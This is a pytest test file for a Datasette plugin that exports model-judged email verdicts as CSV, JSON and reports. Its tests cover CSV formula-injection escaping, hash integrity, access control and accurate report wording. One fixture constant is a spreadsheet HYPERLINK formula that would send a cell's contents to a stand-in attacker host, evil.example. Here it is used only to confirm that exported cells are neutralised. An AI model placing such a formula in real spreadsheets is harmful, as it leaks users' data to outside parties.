"""What leaves the file: no formula in a spreadsheet, nothing left out in silence, and a report that can be checked."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
from html import unescape
from pathlib import Path
from typing import Any

import pytest
from datasette.app import Datasette
from hypothesis import given
from hypothesis import strategies as st
from judged_site import QUESTION, judged
from judges import Plain
from oaken_site import build, copied, mail, site
from small_mail import archive

from datasette_oaken import db, exports, questions, readings
from ingest.judging.base import Judgement
from ingest.judging.run import judge_all

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return judged(tmp_path_factory.mktemp("exports") / "oaken.db")


async def rows_of(ds: Datasette, question: int = 1) -> list[dict[str, str]]:
    response = await ds.client.get(f"/-/oaken/questions/{question}.csv")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(
        r'attachment; filename="oaken-question-1-\d{4}-\d\d-\d\d\.csv".*', response.headers["content-disposition"]
    )
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


@pytest.mark.asyncio
async def test_every_eligible_message_has_a_row_and_says_what_counts_of_it(made: Path) -> None:
    rows = await rows_of(site(made))
    assert [(row["subject"], row["status"], row["judged_status"], row["reviewed"], row["quote"]) for row in rows] == [
        ("Pickup on Friday", "yes", "yes", "yes", "collect"),
        ("Re: Pickup on Friday", "yes", "yes", "", "fetch"),
        (rows[2]["subject"], "unclear", "unclear", "", ""),
        ("Accounts", "error", "error", "", ""),
    ]
    assert rows[0]["internet_message_id"] == "<ask@example.org>" and rows[0]["to"] == "Ben Oake <ben@example.org>"
    assert {len(row["raw_sha256"]) for row in rows} == {len(row["reading_sha256"]) for row in rows} == {64}
    assert tuple(rows[0]) == exports.COLUMNS


@pytest.mark.asyncio
async def test_a_formula_in_mail_or_in_a_models_words_is_no_formula_in_a_spreadsheet(tmp_path: Path) -> None:
    path = build(tmp_path / "oaken.db", [mail(f"{FORMULA}\n", subject=FORMULA, message_id="f")])
    conn = db.connect(path)
    with db.transaction(conn):
        questions.ask(conn, FORMULA)
    judge_all(conn, path, 1, Plain(lambda reading: Judgement("yes", "+1", "@SUM(A1)", FORMULA), model="-1"), quiet=True)
    conn.close()
    (row,) = await rows_of(site(path))
    assert (row["subject"], row["quote"], row["reasoning"], row["considerations"], row["model"]) == (
        f"'{FORMULA}",
        f"'{FORMULA}",
        "'+1",
        "'@SUM(A1)",
        "'-1",
    )


@given(st.text(max_size=40))
def test_no_cell_begins_like_a_formula_and_none_loses_a_character(value: str) -> None:
    cell = exports.cell(value)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert cell.removeprefix("'") == value.replace("\0", "\ufffd").removeprefix("'")


@pytest.mark.asyncio
async def test_the_json_is_whole_and_holds_what_each_verdict_rests_on(made: Path) -> None:
    response = await site(made).client.get("/-/oaken/questions/1/export.json")
    answer: dict[str, Any] = json.loads(response.text)
    assert (answer["ok"], answer["question"]["question"], answer["count"]["yes"], len(answer["messages"])) == (
        True,
        QUESTION,
        2,
        4,
    )
    first = answer["messages"][0]
    assert (first["verdict"]["criterion"], first["verdict"]["model"]) == ("A person, not a thing", "plain 1")
    assert [review["reviewer"] for review in first["verdict"]["reviews"]] == ["kim"]
    assert [other["judge"] for other in first["others"]] == ["test:never", "test:plain"]
    conn = db.connect(made, readonly=True)
    for message in answer["messages"]:
        reading = readings.load(conn, message["verdict"]["reading_sha256"])
        assert reading is not None and hashlib.sha256(reading.text.encode()).hexdigest() == reading.sha256
    conn.close()


def said(html: str) -> str:
    return " ".join(unescape(re.sub(r"<[^>]+>", " ", re.sub(r"(?s)<(style|script|svg).*?</\1>", "", html))).split())


@pytest.mark.asyncio
async def test_the_report_states_the_count_its_evidence_and_what_is_not_in_it(made: Path) -> None:
    html = (await site(made).client.get("/-/oaken/questions/1/report")).text
    page = said(html)
    for part in (
        "At least 2 messages say yes: 3 of 4 messages judged so far (75.0 %)",
        "4 asked of = 2 yes + 0 no + 1 unclear + 1 error + 0 not judged",
        "75.0 % coverage = 3 judged ÷ 4 asked of The number of yes messages is the least there are.",
        "Yes means A person, not a thing",
        "2 of 2 stand there.",
        "4. Messages that say yes (2)",
        "6. Errors (1)",
        "The model took longer than 300 seconds.",
        "<ask@example.org>",
    ):
        assert part in page, part
    assert "<script" not in html and not re.search(r"<[^>]+\sstyle=", html)
    # Every sum of what was read, as it is printed, is the sum of what is kept.
    conn = db.connect(made, readonly=True)
    kept = {row[0] for row in conn.execute("select sha256 from recall_readings")}
    raw = {row[0] for row in conn.execute("select sha256 from raw_messages")}
    conn.close()
    printed = set(re.findall(r"\b[0-9a-f]{64}\b", re.sub(r"<wbr>|\s(?=[0-9a-f]{8})", "", html)))
    assert printed and printed <= kept | raw


@pytest.mark.asyncio
async def test_a_quote_that_no_longer_stands_in_the_reading_is_told_in_the_report(made: Path, tmp_path: Path) -> None:
    path = copied(made, tmp_path / "oaken.db")
    conn = db.connect(path)
    conn.execute("update recall_verdicts set quote = 'never said' where quote = 'fetch'")
    conn.close()
    page = said((await site(path).client.get("/-/oaken/questions/1/report")).text)
    assert "1 of 2 stand there." in page
    assert "This quote was not found in the kept reading" in page


@pytest.mark.asyncio
async def test_a_large_export_is_whole_over_its_batches(tmp_path: Path) -> None:
    number = exports.BATCH * 2 + 3
    conn = archive(tmp_path, [{"text": str(n), "subject": f"Number {n}"} for n in range(number)], name="oaken.db")
    with db.transaction(conn):
        questions.ask(conn, "Is it?")
    conn.execute("pragma wal_checkpoint(truncate)")
    conn.close()
    ds = site(tmp_path / "oaken.db")
    rows = await rows_of(ds)
    assert sorted(int(row["message_id"]) for row in rows) == list(range(1, number + 1))
    assert {row["status"] for row in rows} == {"not judged"}
    answer = json.loads((await ds.client.get("/-/oaken/questions/1/export.json")).text)
    assert len(answer["messages"]) == number


ADDRESSES = ("1.csv", "1/export.json", "1/report")


@pytest.mark.asyncio
@pytest.mark.parametrize("table", exports.TABLES)
async def test_who_may_not_see_a_table_is_given_no_export_that_tells_of_it(made: Path, table: str) -> None:
    ds = site(made, config={"databases": {"oaken": {"tables": {table: {"allow": False}}}}})
    for address in ADDRESSES:
        response = await ds.client.get(f"/-/oaken/questions/{address}")
        assert (response.status_code, QUESTION in response.text) == (403, False), address


@pytest.mark.asyncio
async def test_asking_only_for_the_headers_sends_no_mail(made: Path) -> None:
    ds = site(made)
    for address in ADDRESSES[:2]:
        whole = await ds.client.get(f"/-/oaken/questions/{address}")
        head = await ds.client.head(f"/-/oaken/questions/{address}")
        assert (head.status_code, head.content) == (200, b"")
        assert head.headers["content-disposition"] == whole.headers["content-disposition"]
        assert whole.headers["content-security-policy"].startswith("default-src 'none'; sandbox")


@pytest.mark.asyncio
async def test_the_sum_of_a_message_is_the_sum_of_what_its_page_hands_out(made: Path) -> None:
    ds = site(made)
    rows = await rows_of(ds)
    for row in rows:
        raw = (await ds.client.get(f"/-/oaken/message/{row['message_id']}/raw")).content
        assert hashlib.sha256(raw).hexdigest() == row["raw_sha256"]


@pytest.mark.asyncio
async def test_a_report_of_what_was_never_judged_says_so_and_claims_nothing(tmp_path: Path) -> None:
    path = build(tmp_path / "oaken.db", [mail("Hello\n", message_id="one")])
    conn = db.connect(path)
    with db.transaction(conn):
        questions.ask(conn, "Is it?")
    conn.close()
    page = said((await site(path).client.get("/-/oaken/questions/1/report")).text)
    for part in (
        "1 asked of = 0 yes + 0 no + 0 unclear + 0 errors + 1 not judged",
        "Judge none yet",
        "Where it ran nowhere yet",
        "No person has reviewed any of these verdicts.",
        "How often the judge is wrong is not known.",
        "4. Messages that say yes (0) None.",
    ):
        assert part in page, part
    assert "stand there." not in page
